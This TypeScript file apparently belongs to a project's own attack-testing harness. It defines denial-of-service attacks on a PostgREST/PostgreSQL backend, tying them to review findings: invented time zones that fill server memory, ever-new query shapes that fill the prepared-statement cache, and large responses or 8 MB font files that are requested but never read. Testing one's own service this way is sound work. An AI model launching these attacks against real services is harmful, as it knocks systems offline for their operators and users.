import { send, type Attack, type Attacker } from '../attacker.ts';
import { connectRaw, headOf, hold } from '../raw-connection.ts';

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ';

/**
 * Returns a time zone that no attacker has sent yet: five letters and a digit, which POSIX allows. PostgreSQL stores each new
 * zone in its memory.
 */
function inventedZone(attacker: Attacker): string {
  let rest = attacker.next();
  const letters = Array.from({ length: 5 }, () => {
    const letter = alphabet[rest % 26];
    rest = Math.floor(rest / 26);
    return letter;
  });
  return `${letters.join('')}5`;
}

const zones = (attacker: Attacker, count: number) => Array.from({ length: count }, () => inventedZone(attacker));

/** Fills PostgreSQL's cache of prepared statements. Each query is sent twice, because the server prepares it the second time. */
async function newShape(attacker: Attacker): Promise<number> {
  const mark = attacker.next();
  const conditions = Array.from(
    { length: 90 },
    (_, place) => `amount_ml=${(mark >> (place % 24)) % 2 === 0 ? 'neq' : 'lt'}.${String(9000 + place)}`,
  );
  const path = `/rest/v1/water_entries?select=n${String(mark)}:id&limit=1&${conditions.join('&')}`;
  await send(attacker, 'GET', path);
  return send(attacker, 'GET', path);
}

/** Requests a large response and does not read it. */
const unread =
  (path: string, headers: Record<string, string> = {}) =>
  async (attacker: Attacker): Promise<number> => {
    const socket = connectRaw(attacker);
    socket.pause();
    socket.write(headOf(attacker, `GET ${path}`, headers));
    return hold(socket, attacker, 60_000);
  };

/**
 * Attacks on memory: invented time zones (F1 in docs/review-findings.md), new statements that fill the cache of prepared
 * statements, and large responses that nobody reads. The last is the counterpart of F4 in that document: request bodies that
 * stop arriving.
 */
export const memoryAttacks: readonly Attack[] = [
  {
    ...{ name: 'invented time zones in filters', by: 'accounts', lanes: 4 },
    once: (attacker) => {
      const list = zones(attacker, 550).map((zone) => `2026-1-1+0:0+${zone}`);
      // No row has this id, so that only parsing the list costs time.
      const nothing = 'id=eq.00000000-0000-4000-8000-000000000000';
      return send(attacker, 'GET', `/rest/v1/water_entries?select=id&${nothing}&created_at=in.(${list.join(',')})`);
    },
  },
  {
    ...{ name: 'invented time zones in bodies', by: 'accounts', lanes: 2 },
    once: (attacker) => {
      const rows = zones(attacker, 8000).map((zone) => ({
        date: '2026-1-1',
        amount_ml: 1,
        created_at: `2026-1-1 0:0 ${zone}`,
      }));
      return send(attacker, 'POST', '/rest/v1/water_entries', { body: JSON.stringify(rows) });
    },
  },
  {
    ...{ name: 'invented time zones in calls', by: 'accounts', lanes: 4 },
    once: (attacker) =>
      send(attacker, 'POST', '/rest/v1/rpc/journal_statistics', {
        body: JSON.stringify({
          ...{ journal: 'analysis', from_date: null, to_date: '2026-11-23', grain: 'month' },
          zone: inventedZone(attacker),
        }),
      }),
  },
  { ...{ name: 'ever new shapes of statements', by: 'accounts', lanes: 4 }, once: newShape },
  {
    ...{ name: 'answers of 45 MB that nobody reads', by: 'accounts', lanes: 20 },
    once: unread('/rest/v1/weight_entries?select=notes,b:notes,c:notes&order=date&limit=1000'),
  },
  {
    ...{ name: 'files of 8 MB that nobody reads', by: 'addresses', lanes: 150 },
    once: unread('/assets/large-font.otf'),
  },
  {
    ...{ name: 'files of 8 MB, asked for by HEAD', by: 'addresses', lanes: 8 },
    once: (attacker) => send(attacker, 'HEAD', '/assets/large-font.otf'),
  },
];
